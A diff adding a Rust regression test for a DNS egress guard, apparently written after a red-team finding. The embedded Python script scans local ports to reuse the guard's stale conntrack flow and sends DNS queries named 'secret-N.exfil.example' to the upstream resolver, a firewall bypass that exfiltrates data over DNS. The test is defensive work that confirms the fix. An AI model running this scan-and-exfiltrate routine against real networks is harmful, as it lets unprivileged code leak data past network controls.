@@ -776,3 +776,95 @@ fn a_squatter_on_the_guards_address_answers_nobody() {
         );
     }
 }
+
+/// Asks the guard an allowed name (so it opens, uses and closes an upstream socket), then
+/// binds every free local port in turn and sends a question for a name outside the policy
+/// straight to the upstream resolver (argv[1]; argv[2] "6" for an IPv6 socket). A port
+/// without a conntrack entry is refused at once; the guard's closed port still had an
+/// established entry. Prints "LEAK via port P" for each answer it gets.
+const REUSE_GUARD_FLOW: &str = r#"
+import socket, struct, time
+upstream, family = sys.argv[1], sys.argv[2]
+def q(name, qid):
+    qname = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
+    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + qname + struct.pack(">HH", 16, 1)
+c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+c.settimeout(3)
+c.sendto(q("via-guard.pool.example", 1), ("127.0.0.53", 53))
+print('guard answered', len(c.recv(2000)), flush=True)
+lo, hi = map(int, open('/proc/sys/net/ipv4/ip_local_port_range').read().split())
+af, anywhere = (socket.AF_INET6, '::') if family == '6' else (socket.AF_INET, '0.0.0.0')
+found = 0
+for port in range(lo, hi + 1):
+    s = socket.socket(af, socket.SOCK_DGRAM)
+    try:
+        s.bind((anywhere, port))
+        s.sendto(q("secret-%d.exfil.example" % port, 0x4141), (upstream, 53))
+    except OSError:
+        s.close(); continue
+    s.settimeout(2)
+    try:
+        data = s.recv(2000)
+        print('LEAK via port', port, 'answer of', len(data), 'bytes', flush=True)
+        found += 1
+        for i in range(3):
+            s.sendto(q("more-%d.exfil.example" % i, 0x4142 + i), (upstream, 53))
+            print('  round trip', i, len(s.recv(2000)), flush=True)
+    except OSError as e:
+        print('port', port, 'sent but', e, flush=True)
+    s.close()
+    if found:
+        break
+print('scan done, found', found, flush=True)
+"#;
+
+/// Red team 2, F1: the guard's upstream flows outlive its sockets (conntrack keeps a replied
+/// UDP flow established for about 30 s), and `ct state established,related accept` came
+/// before the rule that lets only the guard ask: uid nobody, or root without CAP_NET_ADMIN and
+/// CAP_NET_RAW, found the guard's old port by binding every free port and asked the IPv4 or
+/// IPv6 upstream whatever it liked, renewing the flow with every packet. Now what goes to an
+/// upstream from another uid, or from the guard's uid without its mark, is refused before the
+/// replies are accepted; the guard keeps answering over UDP and TCP. On the old main the
+/// upstream's log held the `exfil` names.
+#[test]
+fn nobody_reuses_the_guards_closed_upstream_flows() {
+    let script = format!("{REFUSE_CAP_NET_ADMIN_PY}{REUSE_GUARD_FLOW}");
+    for upstream in [DNS_V4, DNS_V6] {
+        let w = World::new();
+        w.dns_set("via-guard.pool.example", &[HOST2_V4], DEFAULT_DNS_TTL);
+        let path = w.write_file("guard.yaml", &guard_policy(&[upstream]));
+        let guard = w.spawn_guard(path.to_str().expect("utf-8 path"));
+        let (up, family) = (
+            upstream.to_string(),
+            if upstream.is_ipv6() { "6" } else { "4" },
+        );
+        for who in [Adversary::Nobody, Adversary::RootWithoutNetAdminOrNetRaw] {
+            let before = w.dns_query_log().len();
+            let out = w.adversary_cmd(who, &[PYTHON, "-c", &script, &up, family]);
+            assert!(
+                out.stdout.contains("guard answered") && out.stdout.contains("scan done"),
+                "{who:?} via {upstream}: the scan did not run:\n{out}"
+            );
+            let asked = w.dns_query_log().split_off(before);
+            let leaked: Vec<&DnsQuery> =
+                asked.iter().filter(|q| q.name.contains("exfil")).collect();
+            assert!(
+                leaked.is_empty() && !out.stdout.contains("LEAK"),
+                "{who:?} asked the upstream {upstream} through the guard's old flow: \
+                 {leaked:?}\n{out}"
+            );
+            for tcp in [false, true] {
+                assert!(
+                    guard_answers(
+                        &w,
+                        Who::Adversary(Adversary::Nobody),
+                        "via-guard.pool.example",
+                        tcp
+                    ),
+                    "the guard still answers (tcp: {tcp}, upstream {upstream}):\n{}",
+                    guard.stderr()
+                );
+            }
+        }
+    }
+}
